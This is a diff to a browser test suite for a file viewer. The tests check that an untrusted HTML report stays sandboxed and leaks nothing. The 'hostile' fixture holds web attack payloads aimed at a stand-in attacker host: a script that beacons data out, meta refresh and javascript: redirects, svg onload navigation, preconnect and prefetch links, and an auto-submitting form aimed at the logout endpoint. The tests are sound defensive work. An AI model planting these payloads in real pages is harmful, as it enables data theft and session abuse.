@@ -39,7 +39,8 @@ test("the list goes by keys and by its filter, and each page looks well", async 
   await page.keyboard.press("End");
   assert.equal(await focused(), "report.html");
   await page.keyboard.press("Enter");
-  await page.waitForURL(`**${address}output/report.html`);
+  await page.waitForURL(`**${address}output/report.html#file-title`);
+  assert.equal(await focused(), "report.html", "whoever goes by keys goes on from there");
   assert.equal(await page.frameLocator("iframe").getByRole("heading").textContent(), "Report");
   await look(page, "outputs-report");
   await who.leave();
@@ -140,6 +141,12 @@ const hostile = (attacker) => `<!doctype html><base target="_top">
 <meta http-equiv="refresh" content="0;url=${attacker}/refreshed">
 <meta http-equiv="Content-Security-Policy" content="default-src *">
 <link rel="stylesheet" href="${attacker}/style.css"><link rel="prefetch" href="${attacker}/prefetched">
+<link rel="preconnect" href="${attacker}"><link rel="dns-prefetch" href="${attacker}"><link rel="preload" as="image" href="${attacker}/preloaded">
+<template shadowrootmode="open"><link rel="preconnect" href="${attacker}"><img src="${attacker}/shadow"></template>
+<link rel="stylesheet" href="${base}/patient-1.css"><link rel="icon" href="${base}/patient-2.png">
+<style>@font-face { font-family: taken; src: url(${base}/patient-3.woff2) } p { font-family: taken; background: url(${base}/patient-4) }</style>
+<img src="${base}/patient-5"><img src="/patient-6"><img srcset="${base}/static/patient-7 2x"><video src="${base}/patient-8"></video>
+<svg><image href="${base}/patient-9"/></svg><img src="https://avatars.githubusercontent.com/u/1?patient-10">
 <style>@import "${attacker}/imported.css"; body { background: url(${attacker}/background) }</style>
 <script>
   const tell = (what) => new Image().src = "${attacker}/ran?" + encodeURIComponent(what);
@@ -158,7 +165,7 @@ const hostile = (attacker) => `<!doctype html><base target="_top">
 <svg onload="location='${attacker}/svg'"><use href="${attacker}/used#a"/></svg>
 <form action="${base}/logout/" method="post" target="_top"><button id="send">Send</button><input autofocus onfocus="this.form.submit()"></form>
 <p><a id="away" href="${attacker}/followed">Away</a> <a id="new" target="_blank" href="${attacker}/new">New</a>
-<a id="script" href="javascript:top.location='${attacker}/javascript'">Script</a></p><h1>Harmless</h1>`;
+<a id="ours" href="${base}/settings/">Ours</a> <a id="script" href="javascript:top.location='${attacker}/javascript'">Script</a></p><h1>Harmless</h1>`;
 
 test("a report that means harm stays in its box", async () => {
   const attacker = await listen(() => ({ body: "ours now" }));
@@ -178,7 +185,7 @@ test("a report that means harm stays in its box", async () => {
   const frame = page.frameLocator("iframe");
   await frame.getByRole("heading", { name: "Harmless" }).waitFor();
   // A click does no more than what it does by itself.
-  for (const id of ["#send", "#away", "#new", "#script"]) {
+  for (const id of ["#send", "#new", "#script", "#ours"]) {
     await frame.locator(id).click({ timeout: 5000, noWaitAfter: true }).catch(() => {});
   }
   await page.waitForTimeout(1000);
@@ -187,7 +194,12 @@ test("a report that means harm stays in its box", async () => {
   assert.deepEqual(messages, []);
   assert.equal(page.context().pages().length, 1, "nothing was opened");
   assert.deepEqual(attacker.asked, []);
-  assert.deepEqual(asked.filter((url) => url.includes("/logout/") || url.includes("/workspace/")), []);
+  const ours = ["/logout/", "/workspace/", "/settings/", "patient"];
+  assert.deepEqual(asked.filter((url) => ours.some((part) => url.includes(part))), []);
+  await page.goto(report);
+  await frame.locator("#away").click({ timeout: 5000, noWaitAfter: true });
+  await page.waitForTimeout(300);
+  assert.deepEqual(attacker.asked, []);
   // Opened by itself it is as harmless.
   const raw = await page.locator("[data-file]").getAttribute("data-raw");
   await page.goto(raw);
@@ -204,7 +216,15 @@ test("a report that means harm stays in its box", async () => {
 
 test("files inside a backend are fetched by the browser", async () => {
   const attacker = await listen(() => ({ body: "" }));
-  const server = await inside("viewer-inside", { ...files, "output/hostile.html": hostile(attacker.origin) });
+  const server = await inside("viewer-inside", {
+    ...files,
+    "output/hostile.html": hostile(attacker.origin),
+    "output/long.html": "<!DOCTYPE html><a href='#end'>To the end</a><div style='height:5000px'></div><h2 id=end>End</h2>",
+    "output/empty.txt": "",
+    "output/empty.csv": "",
+    "output/broken.png": "no picture",
+    "output/paper.pdf": "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Count 0/Kids[]>>endobj\ntrailer<</Root 1 0 R>>",
+  });
   const of = `/${project}/${workspace}/files/viewer-inside/`;
   const who = await person({ username: checker, silent: true });
   const { page } = who;
@@ -226,16 +246,112 @@ test("files inside a backend are fetched by the browser", async () => {
   await page.goto(`${of}output/report.html`);
   const heading = page.frameLocator("iframe").getByRole("heading", { name: "Report" });
   assert.equal(await heading.evaluate((element) => getComputedStyle(element).color), "rgb(0, 0, 128)");
-  await page.goto(`${of}output/hostile.html`);
-  await page.frameLocator("iframe").getByRole("heading", { name: "Harmless" }).waitFor();
-  await page.waitForTimeout(1000);
-  assert.equal(new URL(page.url()).pathname, `${of}output/hostile.html`);
+  // What a report holds has not been checked: nothing of it may leave, neither to others nor to us.
+  const answered = [];
+  page.context().on("response", (response) => answered.push(response.url()));
+  const framed = page.frameLocator("iframe");
+  for (const id of ["#send", "#away", "#new", "#script", "#ours"]) {
+    await page.goto(`${of}output/hostile.html`);
+    await framed.getByRole("heading", { name: "Harmless" }).waitFor();
+    await framed.locator(id).click({ timeout: 5000, noWaitAfter: true });
+    await page.waitForTimeout(300);
+    assert.equal(new URL(page.url()).pathname, `${of}output/hostile.html`, id);
+  }
   assert.deepEqual(attacker.asked, []);
+  // Nor is anybody called on without a word, which browsers do ahead of a click.
+  assert.equal(attacker.connections(), 0);
+  const ours = ["patient", "/settings/", "/logout/"];
+  assert.deepEqual(answered.filter((url) => ours.some((part) => url.includes(part))), []);
+  assert.equal(page.context().pages().length, 1, "nothing was opened");
+  // A table of contents leads within it.
+  await page.goto(`${of}output/long.html`);
+  await framed.getByRole("link", { name: "To the end" }).click();
+  await page.waitForTimeout(300);
+  assert.ok((await framed.locator("#end").evaluate((element) => element.getBoundingClientRect().top)) < 900);
+  assert.equal(await framed.locator("#end").evaluate(() => document.compatMode), "CSS1Compat", "its doctype counts");
+  for (const name of ["empty.txt", "empty.csv"]) {
+    await page.goto(`${of}output/${name}`);
+    await page.getByText("This file is empty").waitFor();
+    await page.getByText("0 bytes", { exact: true }).first().waitFor();
+  }
+  await page.goto(`${of}output/broken.png`);
+  await page.getByText("This picture cannot be shown").waitFor();
+  await page.goto(`${of}output/paper.pdf`);
+  await page.locator("iframe[src^='blob:']").waitFor();
   await page.goto(`${of}output/none.txt`);
   await page.getByRole("heading", { name: "There is no such file" }).waitFor();
+  // Something else answers in the backend's place.
+  for (const body of ["<h1>Sign in to the network</h1>", "{}", '{"files": [{}]}']) {
+    await page.route(/\/current$/, (route) => route.fulfill({ body, headers: { "Access-Control-Allow-Origin": base } }));
+    await page.goto(of);
+    await page.getByRole("heading", { name: "The backend's answer makes no sense" }).waitFor();
+    await page.unroute(/\/current$/);
+  }
   server.close();
   await page.goto(of);
   await page.getByRole("heading", { name: "The backend cannot be reached" }).waitFor();
   attacker.close();
+  await who.leave();
+});
+
+test("a wide table tells its width, and a long value is shown whole", async () => {
+  const long = "word ".repeat(100).trim();
+  const head = Array.from({ length: 300 }, (_, n) => `c${n}`);
+  const row = head.map((_, n) => (n === 0 ? long : n === 1 ? '"two\nlines"' : n));
+  const wide = await release("viewer-wide", { "wide.csv": `${head}\n${row}\n`, "other.txt": "x" });
+  const who = await person({ username: checker });
+  const { page } = who;
+  await page.goto(`${wide}wide.csv`);
+  await page.getByText("1 row below the first, 300 columns, of which the first 200 are shown.").waitFor();
+  const cells = page.locator(".sheet-live tbody tr:not([hidden]) td");
+  assert.match(await cells.first().textContent(), /^word .*…$/);
+  assert.equal(await cells.nth(1).textContent(), "two ⏎ lines");
+  await cells.first().getByRole("button").focus();
+  await page.keyboard.press("Enter");
+  await page.getByText("Row 1, c0").waitFor();
+  assert.equal(await page.locator(".sheet-value pre").textContent(), long);
+  await look(page, "outputs-value");
+  await cells.nth(1).getByRole("button").click();
+  await page.getByText("Row 1, c1").waitFor();
+  assert.equal(await page.locator(".sheet-value pre").textContent(), "two\nlines");
+  await page.getByRole("button", { name: "Close" }).click();
+  assert.equal(await page.locator(".sheet-value pre").count(), 0);
+  await who.leave();
+});
+
+test("a filter stays, and on a narrow screen a file comes first", async () => {
+  const who = await person({ username: checker });
+  const { page } = who;
+  await page.goto(address);
+  await page.getByLabel("Filter the files").fill("uptake");
+  await page.locator("[data-tree] .tree-row:visible").last().click();
+  await page.waitForURL("**/uptake.csv?filter=uptake#file-title");
+  assert.equal(await page.getByLabel("Filter the files").inputValue(), "uptake");
+  assert.equal(await page.evaluate(() => scrollY), 0, "nothing moves on a wide screen");
+  await page.goBack();
+  assert.equal(await page.getByLabel("Filter the files").inputValue(), "uptake");
+  await page.setViewportSize({ width: 360, height: 700 });
+  await page.goto(address);
+  await page.getByRole("link", { name: /report.html/ }).click();
+  await page.waitForURL("**/report.html#file-title");
+  await page.frameLocator("iframe").getByRole("heading", { name: "Report" }).waitFor();
+  assert.ok((await page.locator("#file-title").boundingBox()).y < 200);
+  await who.leave();
+});
+
+test("a long list is filtered by the server", async () => {
+  const many = Object.fromEntries(Array.from({ length: 1001 }, (_, n) => [`part-${n % 3}/file-${n}.txt`, String(n)]));
+  const long = await release("viewer-many", many);
+  const who = await person({ username: checker });
+  const { page } = who;
+  await page.goto(long);
+  await page.getByLabel("Filter the files").fill("part-2 99");
+  await page.getByText("6 of 1,001 files").waitFor();
+  await page.getByRole("link", { name: "part-2/file-995.txt" }).click();
+  await page.waitForURL("**/file-995.txt?filter=part-2+99#file-title");
+  await page.getByText("6 of 1,001 files").waitFor();
+  assert.equal(await page.locator("[data-text]").textContent(), "995");
+  await page.getByLabel("Filter the files").fill("");
+  await page.locator("a.tree-folder").first().waitFor();
   await who.leave();
 });
